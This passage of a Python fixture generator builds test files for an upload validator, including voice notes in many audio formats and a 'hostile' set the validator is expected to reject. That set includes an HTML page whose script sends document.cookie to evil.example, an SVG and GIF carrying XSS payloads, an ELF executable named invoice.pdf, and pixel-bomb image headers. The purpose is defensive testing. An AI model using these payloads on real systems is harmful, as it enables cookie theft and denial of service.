    lib.ov_info.restype = ctypes.POINTER(ctypes.c_int)   # vorbis_info: int version, int channels, long rate
    info = lib.ov_info(vf, -1)
    rate = ctypes.cast(info, ctypes.POINTER(ctypes.c_long))[1]
    total = lib.ov_pcm_total(vf, -1)
    pcm = ctypes.POINTER(ctypes.POINTER(ctypes.c_float))()
    stream = ctypes.c_int()
    n = 0
    while True:
        r = lib.ov_read_float(vf, ctypes.byref(pcm), 4096, ctypes.byref(stream))
        assert r >= 0, r
        if r == 0:
            break
        n += r
    lib.ov_clear(vf)
    return n, total, rate


def mpg123_decode(path):
    """(samples per channel libmpg123 decodes (gapless, as by default), rate)."""
    import ctypes
    lib = _Lib.get("libmpg123.so.0")
    lib.mpg123_init()
    lib.mpg123_new.restype = ctypes.c_void_p
    lib.mpg123_new.argtypes = [ctypes.c_char_p, ctypes.c_void_p]
    lib.mpg123_open.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
    lib.mpg123_getformat.argtypes = [ctypes.c_void_p] + [ctypes.c_void_p] * 3
    lib.mpg123_read.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_size_t,
                                ctypes.POINTER(ctypes.c_size_t)]
    lib.mpg123_encsize.argtypes = [ctypes.c_int]
    lib.mpg123_delete.argtypes = [ctypes.c_void_p]
    lib.mpg123_close.argtypes = [ctypes.c_void_p]
    h = lib.mpg123_new(None, None)
    assert h and lib.mpg123_open(h, path.encode()) == 0
    rate, ch, enc = ctypes.c_long(), ctypes.c_int(), ctypes.c_int()
    assert lib.mpg123_getformat(h, ctypes.byref(rate), ctypes.byref(ch), ctypes.byref(enc)) == 0
    buf, done, nbytes = ctypes.create_string_buffer(1 << 16), ctypes.c_size_t(), 0
    while True:
        r = lib.mpg123_read(h, buf, len(buf), ctypes.byref(done))
        nbytes += done.value
        if r == -12:           # MPG123_DONE
            break
        assert r in (0, -11), r    # MPG123_OK, MPG123_NEW_FORMAT
    lib.mpg123_close(h)
    lib.mpg123_delete(h)
    return nbytes // (ch.value * lib.mpg123_encsize(enc.value)), rate.value


def opus_note(rel, tmp, source_samples=None):
    """Checks an Opus note and returns (durationMs, description of how it was measured)."""
    with open(out(rel), "rb") as f:
        data = f.read()
    pre = opus_pre_skip(data)
    last = max(g for _, _, g, _ in ogg_page_spans(data))
    decoded, total = opusfile_decode(out(rel))
    assert decoded == total == last - pre, (rel, decoded, total, last, pre)
    if source_samples is not None:         # opusenc keeps the exact input length
        assert decoded * source_samples[1] == source_samples[0] * 48000, (rel, decoded, source_samples)
    ms = ms_half_up(decoded, 48000)
    return ms, f"(final granule {last} - pre-skip {pre}) / 48 kHz = {ms} ms"


def make_voice_notes():
    tmp = tempfile.mkdtemp(prefix="mw-voice-")
    A = "audio/"
    L = SUPPORT_LINES
    opus_expect = lambda ms, **kw: dict({"status": "accepted", "detectedType": "audio/ogg",
                                         "kind": "voice_note", "playback": {"durationMs": ms}}, **kw)

    # 1. WhatsApp-like push-to-talk notes: 16 kHz mono in, Opus 16 kbps, 20 ms frames.
    notes = [
        ("1s", 1000, [("en-us+f3", 190, "Yes, thank you!")], 20261201, "WA0010"),
        ("15s", 15000, [("en-gb", 160, " ".join(L[0:3] + L[8:9]))], 20261202, "WA0011"),
        ("60s", 60000, [("en-us", 155, " ".join(L[a:b])) for a, b in ((0, 5), (5, 10), (10, 14))],
         20261203, "WA0012"),
        ("4m40s", 280000, [(v, s, " ".join(L)) for v, s in
                          (("en-us", 160), ("en-gb", 155), ("en-gb-scotland", 160), ("en-us+f2", 170),
                           ("en-029", 160))], 20261204, "WA0013"),
    ]
    opus60 = None
    for tag, ms_want, parts, serial, wa in notes:
        wavs = [speak(tmp, f"{tag}-{i}", text, voice, speed)
                for i, (voice, speed, text) in enumerate(parts)]
        wav = concat(tmp, tag, wavs, 16000, ms_want)
        rel = opusenc(wav, A + f"voice_note_{tag}.ogg", serial)
        ms, how = opus_note(rel, tmp, (sox_samples(wav), 16000))
        assert ms == ms_want
        voices = ", ".join(sorted({v for v, _, _ in parts}))
        add(f"ogg-opus-voice-note-{tag}", rel,
            f"WhatsApp-like voice note, espeak-ng speech ({voices}) 16 kHz mono -> Ogg/Opus 16 kbps "
            f"20 ms frames (opusenc --serial {serial}); {how}",
            opus_expect(ms), declared="audio/ogg; codecs=opus", name=f"PTT-20261125-{wa}.opus")
        if tag == "60s":
            opus60 = rel

    # 2. Stereo 48 kHz, different speakers left and right.
    left = speak(tmp, "left", " ".join(L[4:6]), "en-us", 165, 48000, 10000)
    right = speak(tmp, "right", " ".join(L[10:12]), "en-gb+f3", 175, 48000, 10000)
    stereo = os.path.join(tmp, "stereo.wav")
    run("sox", "-D", "-M", left, right, stereo)
    rel = opusenc(stereo, A + "stereo_48k.ogg", 20261205, bitrate=32)
    ms, how = opus_note(rel, tmp, (sox_samples(stereo), 48000))
    add("ogg-opus-stereo-48k", rel,
        "stereo 48 kHz Ogg/Opus 32 kbps: en-us speech on the left, en-gb+f3 on the right "
        f"(must be mixed down to mono); {how}",
        opus_expect(ms), declared="audio/ogg", name="voice-message.ogg")

    # 3. Narrow-band: an 8 kHz source (phone line) encoded to Opus.
    nb = speak(tmp, "nb", L[9], "en-us", 160, 8000, 5000)
    rel = opusenc(nb, A + "narrowband_8k.ogg", 20261206, bitrate=12)
    ms, how = opus_note(rel, tmp, (sox_samples(nb), 8000))
    add("ogg-opus-narrowband-8k", rel,
        "narrow-band source: espeak-ng speech resampled to 8 kHz mono -> Ogg/Opus 12 kbps "
        f"(OpusHead input rate 8000); {how}",
        opus_expect(ms), declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0014.opus")

    # 4. Quiet note: speech at about -38 dBFS RMS.
    q = speak(tmp, "quiet-src", " ".join(L[6:8]), "en-gb-x-rp", 150, 16000, 8000)
    rms = float(subprocess.run(["sox", q, "-n", "stats"], check=True, capture_output=True,
                               text=True).stderr.split("RMS lev dB")[1].split()[0])
    quiet = os.path.join(tmp, "quiet.wav")
    run("sox", "-D", q, quiet, "gain", f"{-38 - rms:.2f}")
    rms_q = float(subprocess.run(["sox", quiet, "-n", "stats"], check=True, capture_output=True,
                                 text=True).stderr.split("RMS lev dB")[1].split()[0])
    peak_q = float(subprocess.run(["sox", quiet, "-n", "stats"], check=True, capture_output=True,
                                  text=True).stderr.split("Pk lev dB")[1].split()[0])
    assert -38.5 <= rms_q <= -37.5, rms_q
    rel = opusenc(quiet, A + "quiet.ogg", 20261207)
    ms, how = opus_note(rel, tmp, (sox_samples(quiet), 16000))
    add("ogg-opus-quiet", rel,
        f"quiet voice note: espeak-ng speech lowered with sox gain to {rms_q:.1f} dBFS RMS "
        f"(peak {peak_q:.1f} dBFS) over the whole 8 s, 16 kHz mono -> Opus 16 kbps; playback "
        f"should be normalised louder; {how}",
        opus_expect(ms, quiet=True), declared="audio/ogg; codecs=opus",
        name="PTT-20261125-WA0015.opus")

    # 5. Truncated upload: the 60 s note cut at 55% of its bytes, in the middle of a page.
    with open(out(opus60), "rb") as f:
        full = f.read()
    cut = len(full) * 55 // 100
    spans = ogg_page_spans(full)
    assert all(off != cut and off + ln != cut for off, ln, _, _ in spans), "cut lands on a page boundary"
    rel = write_bytes(A + "truncated_60s.ogg", full[:cut])
    complete = ogg_page_spans(full[:cut])
    decoded, total = opusfile_decode(out(rel))
    pre = opus_pre_skip(full)
    assert decoded == total == complete[-1][2] - pre, (decoded, total, complete[-1][2], pre)
    dec_wav = os.path.join(tmp, "truncated.wav")
    run("opusdec", "--quiet", "--rate", "48000", out(rel), dec_wav)
    assert sox_samples(dec_wav) == decoded, (sox_samples(dec_wav), decoded)
    ms = ms_half_up(decoded, 48000)
    add("ogg-opus-truncated", rel,
        f"the 60 s voice note cut after {cut} of {len(full)} bytes (55%, mid-page, no EOS page): "
        f"libopusfile decodes {decoded} samples = the last complete page's granule "
        f"{complete[-1][2]} - pre-skip {pre} (opusdec --rate 48000 writes the same), "
        f"{decoded}/48 = {ms} ms",
        opus_expect(ms), declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0016.opus")

    # 6. A note whose last page claims 31 minutes: rejected from the granule positions alone.
    with open(out(A + "voice_note_15s.ogg"), "rb") as f:
        data = bytearray(f.read())
    pre = opus_pre_skip(data)
    off, ln, gran, flags = ogg_page_spans(bytes(data))[-1]
    assert flags & 4, "last page has no EOS flag"
    fake = 31 * 60 * 48000 + pre
    struct.pack_into("<q", data, off + 6, fake)
    struct.pack_into("<I", data, off + 22, 0)
    struct.pack_into("<I", data, off + 22, ogg_crc(data[off:off + ln]))
    rel = write_bytes(A + "claims_31min.ogg", bytes(data))
    assert opusfile_total(out(rel)) == 31 * 60 * 48000
    add("ogg-opus-claims-31-minutes", rel,
        f"the 15 s note with its last (EOS) page's granule position rewritten from {gran} to "
        f"{fake} (31 min at 48 kHz + pre-skip {pre}), page CRC recomputed: op_pcm_total says "
        "31:00, over the 30-minute limit before anything is decoded",
        {"status": "rejected", "reason": "too_long", "detectedType": "audio/ogg"},
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0017.opus")

    # 7. Ogg Vorbis.
    vw = speak(tmp, "vorbis", L[12], "en-gb", 165, 16000, 5000)
    rel = A + "vorbis_16k.ogg"
    run("oggenc", "--quiet", "--serial", "20261208", "-q", "2", "-o", out(rel), vw)
    decoded, total, rate = vorbisfile_decode(out(rel))
    assert decoded == total == sox_samples(vw) and rate == 16000, (decoded, total, rate)
    ms = ms_half_up(decoded, rate)
    add("ogg-vorbis-voice-note", rel,
        f"Ogg Vorbis (oggenc -q 2 --serial 20261208) of espeak-ng speech, 16 kHz mono: "
        f"ov_pcm_total {total} samples = decoded samples, / 16 kHz = {ms} ms",
        {"status": "accepted", "detectedType": "audio/ogg", "kind": "voice_note",
         "playback": {"durationMs": ms}},
        declared="audio/ogg", name="AUD-20261125-WA0018.ogg")

    # 8. MP3 with an ID3v2 title (lame writes the Xing/LAME tag with delay and padding).
    mw = speak(tmp, "mp3", L[3], "en-us+m3", 160, 22050, 5000)
    rel = A + "speech_22k.mp3"
    # VBR (Xing + LAME tag). NB: a CBR file (--cbr -b 48, 'Info' + LAME tag) at 22.05 kHz decodes
    # to whole frames in libmpg123 1.31 (gapless trimming not applied), so its length would not be exact.
    run("lame", "--quiet", "-V", "7", "-m", "m", "--id3v2-only",
        "--tt", "Question about order 4711", "--ta", "Customer", mw, out(rel))
    with open(out(rel), "rb") as f:
        head = f.read(10)
    assert head[:3] == b"ID3" and head[3] == 3, head
    decoded, rate = mpg123_decode(out(rel))
    assert decoded == sox_samples(mw) and rate == 22050, (decoded, sox_samples(mw), rate)
    ms = ms_half_up(decoded, rate)
    add("mp3-voice-note", rel,
        "MP3 (lame -V 7 VBR mono 22.05 kHz, Xing + LAME tag) with an ID3v2.3 tag (TIT2 'Question about "
        f"order 4711'): libmpg123 decodes {decoded} samples (gapless) = the PCM given to lame, "
        f"/ 22.05 kHz = {ms} ms",
        {"status": "accepted", "detectedType": "audio/mpeg", "kind": "voice_note",
         "playback": {"durationMs": ms}},
        declared="audio/mpeg", name="AUD-20261125-WA0019.mp3")
    add("mp3-operator", rel, "the same MP3 sent by an operator",
        rejected("operator_audio_not_allowed", "audio/mpeg"), frm="operator",
        declared="audio/mpeg", name="hold_music.mp3")

    # 9. AAC: M4A (iPhone voice memo style) and raw ADTS. Not converted: unsupported_type.
    aw = speak(tmp, "aac", L[5], "en-us", 165, 44100, 5000)
    ff = ("ffmpeg", "-nostdin", "-v", "error", "-y", "-i")
    bitexact = ("-map_metadata", "-1", "-fflags", "+bitexact", "-flags:a", "+bitexact")
    rel = A + "speech.m4a"
    run(*ff, aw, *bitexact, "-c:a", "aac", "-b:a", "48k", "-movflags", "+faststart", out(rel))
    raw = libmagic(rel)
    add("m4a-aac-visitor", rel,
        f"AAC-LC in an MP4/M4A container (ffmpeg aac 48 kbps, 44.1 kHz mono) of espeak-ng speech; "
        f"libmagic says {raw}, reported as {canonical_type(raw)}",
        rejected("unsupported_type", "audio/mp4"), declared="audio/mp4",
        name="AUD-20261125-WA0020.m4a")
    rel = A + "speech.aac"
    run(*ff, aw, *bitexact, "-c:a", "aac", "-b:a", "48k", "-f", "adts", out(rel))
    raw = libmagic(rel)
    add("aac-adts-visitor", rel,
        f"the same AAC as a raw ADTS stream; libmagic says {raw}, reported as {canonical_type(raw)}",
        rejected("unsupported_type", "audio/aac"), declared="audio/aac",
        name="AUD-20261125-WA0021.aac")

    # 10. AMR-NB 12.2 kbps (sox's amr-nb handler, libopencore-amrnb).
    am = speak(tmp, "amr", L[4], "en-us", 170, 8000, 5000)
    rel = A + "speech.amr"
    run("sox", "-D", am, "-t", "amr-nb", "-C", "7", out(rel))
    add("amr-nb-visitor", rel,
        "AMR-NB 12.2 kbps (sox -t amr-nb -C 7, libopencore-amrnb) of 8 kHz espeak-ng speech, "
        "'#!AMR' header",
        rejected("unsupported_type", "audio/amr"), declared="audio/amr",
        name="AUD-20261125-WA0022.amr")

    # 11. Browser recording (MediaRecorder style): WebM with Opus audio.
    ww = speak(tmp, "webm", " ".join(L[7:9]), "en-gb", 165, 48000, 6000)
    rel = A + "browser_recording.webm"
    run(*ff, ww, *bitexact, "-c:a", "libopus", "-b:a", "32k", "-application", "voip", "-f", "webm",
        out(rel))
    raw = libmagic(rel)
    add("webm-opus-operator", rel,
        f"browser recording (WebM/Matroska with one Opus track, ffmpeg libopus 32 kbps) sent by an "
        f"operator; libmagic says {raw}",
        rejected("operator_audio_not_allowed"), frm="operator", declared="audio/webm",
        name="voice-message.webm")
    add("webm-opus-visitor", rel,
        "the same WebM/Opus browser recording from a visitor: only Ogg-framed Opus is a voice note",
        rejected("unsupported_type"), declared="audio/webm; codecs=opus", name="voice-message.webm")

    shutil.rmtree(tmp)


# --------------------------------------------------------------------------- hostile

def png_chunk(typ, data):
    return struct.pack(">I", len(data)) + typ + data + struct.pack(">I", zlib.crc32(typ + data))


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def tiny_elf():
    """Minimal static x86-64 ELF executable: exit(0). 129 bytes."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"          # mov eax,60; xor edi,edi; syscall
    base, ehsize, phsize = 0x400000, 64, 56
    entry = base + ehsize + phsize
    total = ehsize + phsize + len(code)
    eh = (b"\x7fELF\x02\x01\x01" + b"\x00" * 9 +
          struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, ehsize, 0, 0, ehsize, phsize, 1, 0, 0, 0))
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, total, total, 0x1000)
    return eh + ph + code


def jpeg_has_sof(data):
    """Walk JPEG segments like a header parser would; return SOF dims if one is reached."""
    pos = 2
    while pos + 4 <= len(data):
        if data[pos] != 0xFF:
            return None
        m = data[pos + 1]
        if m == 0xFF:
            pos += 1
            continue
        if m in (0xD8, 0x01) or 0xD0 <= m <= 0xD7:
            pos += 2
            continue
        if m == 0xD9 or m == 0xDA:
            return None
        ln = struct.unpack_from(">H", data, pos + 2)[0]
        if m in (0xC0, 0xC1, 0xC2, 0xC3, 0xC5, 0xC6, 0xC7, 0xC9, 0xCA, 0xCB, 0xCD, 0xCE, 0xCF):
            if pos + 9 <= len(data):
                return struct.unpack_from(">HH", data, pos + 5)
            return None
        if ln < 2:
            return None
        pos += 2 + ln
    return None


def make_hostile():
    H = "hostile/"
    add("empty", write_bytes(H + "empty.bin", b""), "zero bytes, declared image/jpeg",
        rejected("empty", "application/x-empty"), declared="image/jpeg", name="IMG-20261125-WA0003.jpg")

    html = (b"<!DOCTYPE html>\n<html><head><title>cat</title></head>\n<body>\n"
            b"<h1>Totally a cat picture</h1>\n<img src=x onerror=\"alert(document.cookie)\">\n"
            b"<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n</body></html>\n")
    add("html-declared-jpeg", write_bytes(H + "cat.html", html),
        "HTML page with script declared image/jpeg as cat.jpg",
        rejected("unsupported_type", "text/html"), declared="image/jpeg", name="cat.jpg")

    svg = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
           b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" viewBox="0 0 200 200">\n'
           b'  <script type="text/javascript">alert(document.domain)</script>\n'
           b'  <rect width="200" height="200" fill="#e33"/>\n'
           b'  <circle cx="100" cy="100" r="60" fill="#fff" onload="alert(1)"/>\n</svg>\n')
    add("svg-script-declared-png", write_bytes(H + "logo.svg", svg),
        "SVG with a <script> element declared image/png",
        rejected("unsupported_type", "image/svg+xml"), declared="image/png", name="logo.png")

    tmp = tempfile.mkdtemp(prefix="mw-host-")
    src = os.path.join(tmp, "w.png")
    crop_to(photo("Dune.jpg"), 480, 300).save(src)
    run("cwebp", "-quiet", "-q", "70", "-metadata", "none", src, "-o", out(H + "real.webp"))
    add("webp-declared-jpeg", H + "real.webp", "a real lossy WebP photo (cwebp) declared image/jpeg",
        rejected("unsupported_type", "image/webp"), declared="image/jpeg", name="IMG-20261125-WA0004.jpg")

    add("elf-declared-pdf", write_bytes(H + "tiny_elf", tiny_elf()),
        "129-byte static x86-64 ELF executable (exit 0) declared application/pdf",
        rejected("unsupported_type"), declared="application/pdf", name="invoice.pdf")

    zbuf = io.BytesIO()
    parts = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
         'officedocument.wordprocessingml.document.main+xml"/></Types>'),
        ("_rels/.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
        ("word/document.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         '<w:body><w:p><w:r><w:t>Invoice 4711 (not really a PDF)</w:t></w:r></w:p></w:body></w:document>'),
    ]
    with zipfile.ZipFile(zbuf, "w") as z:
        for name, text in parts:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 25, 16, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 0
            z.writestr(zi, text)
    add("docx-declared-pdf", write_bytes(H + "invoice.docx", zbuf.getvalue()),
        "Office Open XML .docx (zip with [Content_Types].xml first) declared application/pdf",
        rejected("unsupported_type"), declared="application/pdf", name="invoice.pdf")

    add("text-declared-gif", write_bytes(H + "notes.txt",
                                         b"Just some plain text.\nNot an animation at all.\n" * 4),
        "plain ASCII text declared image/gif",
        rejected("unsupported_type", "text/plain"), declared="image/gif", name="funny.gif")

    with open(out("images/whatsapp_photo.jpg"), "rb") as f:
        wa = f.read()
    add("jpeg-truncated", write_bytes(H + "truncated.jpg", wa[:len(wa) * 55 // 100]),
        "first 55% of the WhatsApp photo (no EOI, scan data cut mid-stream)",
        rejected("corrupt", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0005.jpg")

    rnd = random.Random(4711)
    while True:
        garbage = b"\xff\xd8\xff" + bytes(rnd.getrandbits(8) for _ in range(4093))
        if jpeg_has_sof(garbage) is None:
            break
    add("jpeg-magic-garbage", write_bytes(H + "magic_garbage.jpg", garbage),
        "FF D8 FF followed by 4093 seeded random bytes (random.Random(4711)); no SOF is reachable",
        rejected("corrupt", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0006.jpg")

    gif_script = b"GIF89a<script>alert(1)</script>" + b" " * 994 + b"\n"
    add("gif-script-polyglot", write_bytes(H + "gif_script.gif", gif_script),
        "'GIF89a<script>alert(1)</script>' + spaces. NOTE: the logical-screen bytes are '<s' 'cr' = "
        "29500x29283 (863 M px) so the header-only pixel check rejects it first",
        rejected("too_many_pixels", "image/gif"), declared="image/gif", name="funny.gif")
    gif_script_small = b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>" + b" " * 990 + b"\n"
    add("gif-script-small-screen", write_bytes(H + "gif_script_1x1.gif", gif_script_small),
        "'GIF89a' + 1x1 logical screen + '<script>alert(1)</script>' + spaces: small header, does not decode",
        rejected("corrupt", "image/gif"), declared="image/gif", name="funny.gif")

    pdfg = b"%PDF-1.7\n" + bytes(rnd.getrandbits(8) for _ in range(4087))
    add("pdf-header-garbage", write_bytes(H + "garbage.pdf", pdfg),
        "'%PDF-1.7\\n' + seeded random bytes: no xref, no objects",
        rejected("corrupt", "application/pdf"), declared="application/pdf", name="invoice.pdf")

    raw = b"".join(b"\x00" + bytes((x * 4 + y) % 256 for x in range(64 * 3)) for y in range(64))
    good = zlib.compress(raw, 9)
    bad = bytearray(good)
    for i in range(6, len(bad) - 4, 7):         # keep the zlib header, wreck the deflate data
        bad[i] ^= 0x5A
    ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    dmg = PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", bytes(bad)) + png_chunk(b"IEND", b"")
    add("png-damaged-idat", write_bytes(H + "damaged_idat.png", dmg),
        "64x64 RGB PNG: valid signature, IHDR and CRCs, but the IDAT deflate stream is garbage",
        rejected("corrupt", "image/png"), declared="image/png", name="screenshot.png")

    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    huge = (PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64, 9))
            + png_chunk(b"IEND", b""))
    add("png-huge-ihdr", write_bytes(H + "huge_30000x30000.png", huge),
        "PNG whose IHDR says 30000x30000 RGB (900 M px), valid CRCs, tiny IDAT",
        rejected("too_many_pixels", "image/png"), declared="image/png", name="photo.png")

    gif = (b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) +   # GCT flag, 2 entries
           b"\x00\x00\x00\xff\xff\xff" +
           b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) +               # 1x1 image at 0,0
           b"\x02\x02\x44\x01\x00" + b"\x3b")                              # LZW min 2, data, trailer
    add("gif-huge-screen", write_bytes(H + "huge_screen_65535.gif", gif),
        "GIF89a whose logical screen is 65535x65535 (4.29 G px); one well-formed 1x1 frame",
        rejected("too_many_pixels", "image/gif"), declared="image/gif", name="sticker.gif")

    # Minimal baseline greyscale JPEG whose SOF0 claims 65500x65500.
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 65500, 65500, 1) + b"\x01\x11\x00"
    # DC table: one code of length 1 -> category 0; AC table: one code of length 1 -> EOB
    dht = (b"\xff\xc4" + struct.pack(">H", 2 + 17 + 1 + 17 + 1) +
           b"\x00" + bytes([1] + [0] * 15) + b"\x00" +
           b"\x10" + bytes([1] + [0] * 15) + b"\x00")
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    jpg = b"\xff\xd8" + dqt + sof + dht + sos + b"\x00" * 16 + b"\xff\xd9"
    add("jpeg-huge-sof", write_bytes(H + "huge_sof_65500.jpg", jpg),
        "minimal greyscale baseline JPEG (DQT, SOF0, DHT, SOS) whose SOF0 claims 65500x65500 (4.29 G px)",
        rejected("too_many_pixels", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0007.jpg")

    ogg = b"OggS" + bytes(rnd.getrandbits(8) for _ in range(2044))
    det = "audio/ogg"
    with open(out(H + "garbage.ogg"), "wb") as f:
        f.write(ogg)
    det = libmagic(H + "garbage.ogg")
    add("ogg-garbage", H + "garbage.ogg",
        f"'OggS' + seeded random bytes from a visitor; libmagic says {det}",
        rejected("corrupt" if det == "audio/ogg" else "unsupported_type"),
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0003.opus")
    shutil.rmtree(tmp)


# --------------------------------------------------------------------------- main

def main():
    for sub in ("images", "documents", "audio", "hostile"):
        d = os.path.join(HERE, sub)
        if os.path.isdir(d):
            shutil.rmtree(d)
        os.makedirs(d)
    make_images()
    make_documents()
    make_audio()
    make_voice_notes()
    make_hostile()
    ids = [f["id"] for f in fixtures]
    assert len(ids) == len(set(ids)), "duplicate ids"
    with open(os.path.join(HERE, "fixtures.json"), "w") as f:
        json.dump({"version": 1, "fixtures": fixtures}, f, indent=2, ensure_ascii=False)
        f.write("\n")
    print(f"wrote {len(fixtures)} fixtures")


if __name__ == "__main__":
    main()
